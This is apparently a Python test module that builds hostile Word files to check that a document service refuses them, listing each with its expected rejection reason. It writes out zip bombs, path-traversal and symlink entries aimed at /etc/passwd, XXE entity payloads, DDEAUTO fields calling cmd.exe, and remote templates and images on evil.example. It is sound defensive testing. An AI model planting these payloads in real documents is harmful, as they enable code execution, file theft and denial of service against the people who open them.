"""Word files that somebody made by hand to hurt whoever opens them."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO
from types import MappingProxyType
from typing import Final

from service.rendering.docx import docx_of
from tests.marked_up import part_in, with_part
from tests.rendering.pairs import countered

BODY: Final = "word/document.xml"
RELATIONS: Final = "word/_rels/document.xml.rels"
TYPES: Final = "[Content_Types].xml"
_ZEROS: Final = 30 * 1024 * 1024


@cache
def ours() -> bytes:
    return docx_of(countered()[1])


def _in_part(name: str, old: bytes, new: bytes) -> bytes:
    part = part_in(ours(), name)
    assert old in part
    return with_part(ours(), name, part.replace(old, new, 1))


def in_body(xml: str) -> bytes:
    """Our file with this at the beginning of its body."""
    return _in_part(BODY, b"<w:body>", b"<w:body>" + xml.encode())


def related(kind: str, target: str, mode: str = "External") -> bytes:
    said = f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return _in_part(RELATIONS, b"</Relationships>", said.encode())


def field(*pieces: str) -> bytes:
    """A field whose instruction stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return in_body(f"<w:p>{begin}{runs}{end}</w:p>")


def doctype(encoding: str) -> bytes:
    text = part_in(ours(), BODY).decode().partition("?>")[2]
    entities = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return with_part(ours(), BODY, (head + entities + text).encode(encoding))


def of_type(kind: str) -> bytes:
    was = b"wordprocessingml.document.main+xml"
    return _in_part(TYPES, b"application/vnd.openxmlformats-officedocument." + was, kind.encode())


def twice() -> bytes:
    out = BytesIO(ours())
    with zipfile.ZipFile(out, "a") as parts:
        info = zipfile.ZipInfo("WORD/document.xml")
        parts.writestr(info, b"<a/>")
    return out.getvalue()


def linked() -> bytes:
    out = BytesIO(ours())
    info = zipfile.ZipInfo("word/media/link.png")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(out, "a") as parts:
        parts.writestr(info, b"/etc/passwd")
    return out.getvalue()


def encrypted() -> bytes:
    """Every entry says that a password opens it."""
    data = bytearray(ours())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(sign)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(sign, place + 4)
    return bytes(data)


def understated() -> bytes:
    """A part that grows to 30 MB and says that it is small."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(_ZEROS)) + packer.flush()
    name, facts = b"word/media/x.png", (0, 8, 0, 33, 0, len(packed), 1000)
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *facts[:4], 0, facts[5], 1000, len(name), 0)
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *facts[:4], 0, facts[5], 1000,
                        len(name), 0, 0, 0, 0, 0, 0)  # fmt: skip
    listed = entry + name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(listed), len(head) + len(name) + len(packed), 0
    )
    return head + name + packed + listed + end


def many() -> bytes:
    out = BytesIO(ours())
    with zipfile.ZipFile(out, "a") as parts:
        for n in range(300):
            parts.writestr(f"word/media/{n}.png", b"")
    return out.getvalue()


def deep() -> bytes:
    return in_body("<w:p>" + "<w:smartTag>" * 300 + "</w:smartTag>" * 300 + "</w:p>")


HOSTILE: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = MappingProxyType(
    {
        "a part that grows a thousandfold": (
            lambda: with_part(ours(), "word/media/x.png", bytes(19 * 1024 * 1024)),
            "times its size",
        ),
        "a part larger than allowed": (
            lambda: with_part(ours(), "word/media/x.png", bytes(21 * 1024 * 1024)),
            "larger than 20 MB",
        ),
        "a part that says less than it holds": (understated, "read"),
        "too many parts": (many, "parts"),
        "two parts of one name": (twice, "two parts"),
        "a part that leads out": (
            lambda: with_part(ours(), "../../evil.xml", b"<a/>"),
            "leads out",
        ),
        "a part with a drive": (lambda: with_part(ours(), "C:evil.xml", b"<a/>"), "leads out"),
        "an absolute part": (lambda: with_part(ours(), "/etc/evil.xml", b"<a/>"), "leads out"),
        "a link": (linked, "link"),
        "a password": (encrypted, "password"),
        "a DOCTYPE": (lambda: doctype("utf-8"), "DOCTYPE"),
        "a DOCTYPE in UTF-16": (lambda: doctype("utf-16"), "DOCTYPE"),
        "a DOCTYPE in EBCDIC": (lambda: doctype("cp037"), "UTF-8"),
        "a DOCTYPE in UTF-32": (lambda: doctype("utf-32"), "UTF-8"),
        "a DOCTYPE in UTF-7": (lambda: doctype("utf-7"), "UTF-8"),
        "an attached template": (
            lambda: related("attachedTemplate", "http://evil.example/t.dotm"),
            "outside",
        ),
        "an image from outside": (lambda: related("image", "\\\\evil.example\\x.png"), "outside"),
        "a link to a file": (lambda: related("hyperlink", "file:///etc/passwd"), "outside"),
        "a relation in other letters": (
            lambda: related("frame", "http://evil.example", "external"),
            "outside",
        ),
        "macros": (lambda: with_part(ours(), "word/vbaProject.bin", b"x"), "macros"),
        "a macro document": (
            lambda: of_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
            "macros",
        ),
        "a template": (
            lambda: of_type(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
            ),
            "templates",
        ),
        "an embedded object": (
            lambda: with_part(ours(), "word/embeddings/oleObject1.bin", b"x"),
            "object",
        ),
        "an ActiveX control": (
            lambda: with_part(ours(), "word/activeX/activeX1.xml", b"<a/>"),
            "control",
        ),
        "an altChunk": (
            lambda: in_body('<w:altChunk xmlns:r="r" r:id="rId5"/>'),
            "another document",
        ),
        "a chunk by relation": (
            lambda: related("aFChunk", "x.html", "Internal"),
            "another document",
        ),
        "DDE": (lambda: field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "DDEAUTO"),
        "DDE in pieces": (lambda: field(" D", "D", "E x"), "DDE"),
        "DDE as a simple field": (
            lambda: in_body('<w:p><w:fldSimple w:instr="DDE x"/></w:p>'),
            "DDE",
        ),
        "INCLUDETEXT": (lambda: field('IncludeText "C:\\\\x.docx"'), "IncludeText"),
        "INCLUDEPICTURE": (
            lambda: field(' INCLUDEPICTURE "http://evil.example/x"'),
            "INCLUDEPICTURE",
        ),
        "XML under another name": (
            lambda: with_part(
                _with_default(
                    "png",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml",
                ),
                "word/x.png",
                b"<a/>",
            ),
            "not called so",
        ),
        "elements too deep": (deep, "deep"),
        "broken XML": (lambda: with_part(ours(), BODY, b"<w:document"), "well-formed"),
        "no types": (
            lambda: with_part(b"PK\x05\x06" + bytes(18), "a.xml", b"<a/>"),
            "not a Word document",
        ),
        "nothing": (lambda: b"", "not a Word document"),
        "a text": (lambda: b"Dear Sirs", "not a Word document"),
    }
)
"""Each with words of the reason for which it is not read."""


def _with_default(ending: str, kind: str) -> bytes:
    said = f'<Default Extension="{ending}" ContentType="{kind}"/></Types>'
    return _in_part(TYPES, b"</Types>", said.encode())
